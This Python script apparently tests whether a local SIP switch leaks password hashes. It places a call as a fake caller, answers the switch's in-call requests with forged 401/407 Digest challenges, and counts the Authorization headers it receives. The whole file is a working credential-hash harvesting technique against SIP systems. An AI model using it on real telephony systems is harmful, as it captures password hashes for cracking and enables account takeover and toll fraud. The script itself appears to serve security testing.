#!/usr/bin/python3
"""A caller who tries to get a password's hash: when the switch says BYE, he asks it for a password, as a proxy would.

    digest_leak.py PORT NUMBER

Ends with one line of JSON: how many requests he has asked a password for, and how many hashes he was given.
"""

import json
import socket
import sys
import time

CHALLENGES = (
    (b"407 Proxy Authentication Required", b"Proxy-Authenticate"),
    (b"401 Unauthorized", b"WWW-Authenticate"),
)


def header(message, name):
    for line in message.split(b"\r\n"):
        if line.lower().startswith(name.lower() + b":"):
            return line.split(b":", 1)[1].strip()
    return b""


def answer(request, status, *more):
    lines = [b"SIP/2.0 " + status]
    lines += [line for line in request.split(b"\r\n") if line.lower().startswith(b"via:")]
    lines += [name + b": " + header(request, name) for name in (b"From", b"To", b"Call-ID", b"CSeq")]
    return b"\r\n".join([*lines, *more, b"Content-Length: 0", b"", b""])


def main():
    port, number = int(sys.argv[1]), sys.argv[2].encode()
    wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    wire.bind(("127.0.0.1", 0))
    wire.settimeout(0.5)
    own = wire.getsockname()[1]
    target = b"sip:%s@127.0.0.1:%d" % (number, port)
    body = (b"v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
            b"m=audio 39990 RTP/AVP 8\r\n")

    def request(method, branch, to, sound=b""):
        return b"\r\n".join([
            method + b" " + target + b" SIP/2.0", b"Via: SIP/2.0/UDP 127.0.0.1:%d;branch=z9hG4bK%s" % (own, branch),
            b"Max-Forwards: 70", b"From: <sip:13900000044@127.0.0.1>;tag=thief", b"To: " + to, b"Call-ID: thief",
            b"CSeq: 1 " + method, b"Contact: <sip:13900000044@127.0.0.1:%d>" % own, b"Content-Type: application/sdp",
            b"Content-Length: %d" % len(sound), b"", b""]) + sound

    invite = request(b"INVITE", b"thief1", b"<" + target + b">", body)
    wire.sendto(invite, ("127.0.0.1", port))
    challenged, hashes, ends = 0, 0, time.monotonic() + 40
    while time.monotonic() < ends:
        try:
            message, source = wire.recvfrom(65536)
        except socket.timeout:
            continue
        hashes += message.lower().count(b"authorization:")
        if message.startswith(b"SIP/2.0 200") and b" INVITE" in header(message, b"CSeq"):
            wire.sendto(request(b"ACK", b"thief2", header(message, b"To")), source)
        elif message.startswith(b"SIP/2.0 4") or message.startswith(b"SIP/2.0 5"):
            sys.exit("the call was refused: " + message.split(b"\r\n")[0].decode())
        elif not message.startswith(b"SIP/2.0"):
            status, name = CHALLENGES[challenged % 2]
            challenge = name + b': Digest realm="carrier", nonce="abcdef0123456789", algorithm=MD5, qop="auth"'
            wire.sendto(answer(message, status, challenge), source)
            challenged += 1
            # Long enough to be given what was asked for.
            ends = min(ends, time.monotonic() + 4)
    print(json.dumps({"challenged": challenged, "hashes": hashes}), flush=True)


main()
